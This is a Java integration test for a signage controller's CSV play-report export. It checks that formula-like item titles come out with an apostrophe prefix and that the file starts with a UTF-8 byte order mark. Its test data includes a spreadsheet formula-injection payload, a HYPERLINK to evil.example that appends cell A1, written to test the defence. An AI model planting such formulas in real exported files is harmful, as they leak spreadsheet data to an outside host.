package io.gatecast.controller;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.gatecast.protocol.PlayBatch.Play;
import io.gatecast.testkit.ApiClient.Answer;
import io.gatecast.testkit.IntegrationTest;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Issue 16, item 6: an item titled like a spreadsheet formula comes out of the plays CSV as text
 * (a leading apostrophe), and the CSV starts with a UTF-8 byte order mark so Vietnamese opens
 * right in a spreadsheet program.
 */
@IntegrationTest
class CsvFormulaTest {
  private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  private static final String PERIOD = "from=2026-03-14T00:00:00Z&to=2026-03-17T00:00:00Z";

  @RegisterExtension static final RunningController RUNNING = new RunningController();

  @Test
  void formulaCellsAreNeutralisedAndTheCsvStartsWithABom() throws Exception {
    Answer screen = RUNNING.api().postJson("/api/v1/screens", "{\"id\":\"csv-gate\"}");
    assertThat(screen.status()).isEqualTo(201);
    byte[] slide = "<svg xmlns='http://www.w3.org/2000/svg'><text>csv</text></svg>".getBytes(StandardCharsets.UTF_8);
    RUNNING.api().upload(slide, "image/svg+xml", null);
    String sha = ApiBadInputTest.sha256(slide);
    for (String[] item : List.of(new String[] {"csv-formula", FORMULA}, new String[] {"csv-plus", "+1 Cửa khẩu"},
        new String[] {"csv-at", "@SUM(A1)"}, new String[] {"csv-minus", "-2+3"})) {
      assertThat(RUNNING.api().postJson("/api/v1/content", Map.of("id", item[0], "title", item[1], "mediaSha256", sha,
          "durationSeconds", 10)).status()).isEqualTo(201);
    }
    Instant start = Instant.parse("2026-03-15T08:00:00Z");
    try (FakeAgent agent = new FakeAgent(RUNNING.controller().brokerUrl(), "csv-gate",
        screen.body().get("mqttPassword").asText())) {
      agent.plays(List.of(new Play("c-1", "csv-formula", null, "vi", start, start.plusSeconds(10)),
          new Play("c-2", "csv-plus", null, "vi", start, start.plusSeconds(10)),
          new Play("c-3", "csv-at", null, "vi", start, start.plusSeconds(10)),
          new Play("c-4", "csv-minus", null, "vi", start, start.plusSeconds(10))));
      await().atMost(Duration.ofSeconds(15)).until(() -> RUNNING.api()
          .get("/api/v1/reports/plays?" + PERIOD + "&groupBy=item").body().get("totalPlays").asLong() == 4);
    }
    HttpResponse<byte[]> csv = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:"
        + RUNNING.controller().httpPort() + "/api/v1/reports/plays?" + PERIOD + "&groupBy=item&format=csv"))
        .header("Authorization", "Bearer " + RUNNING.api().token()).build(), HttpResponse.BodyHandlers.ofByteArray());
    byte[] bytes = csv.body();
    // EF BB BF: the UTF-8 byte order mark.
    assertThat(new byte[] {bytes[0], bytes[1], bytes[2]}).containsExactly(0xEF, 0xBB, 0xBF);
    List<List<String>> rows = CsvParser.parse(new String(bytes, StandardCharsets.UTF_8));
    assertThat(rows.get(0)).containsExactly("item", "title", "plays", "airtime_seconds");
    assertThat(rows).contains(List.of("csv-formula", "'" + FORMULA, "1", "10.000"),
        List.of("csv-plus", "'+1 Cửa khẩu", "1", "10.000"), List.of("csv-at", "'@SUM(A1)", "1", "10.000"),
        List.of("csv-minus", "'-2+3", "1", "10.000"));
    for (List<String> row : rows) {
      for (String cell : row) {
        assertThat(cell).as("no cell a spreadsheet would run").doesNotStartWith("=").doesNotStartWith("+")
            .doesNotStartWith("@").doesNotStartWith("-");
      }
    }
  }
}
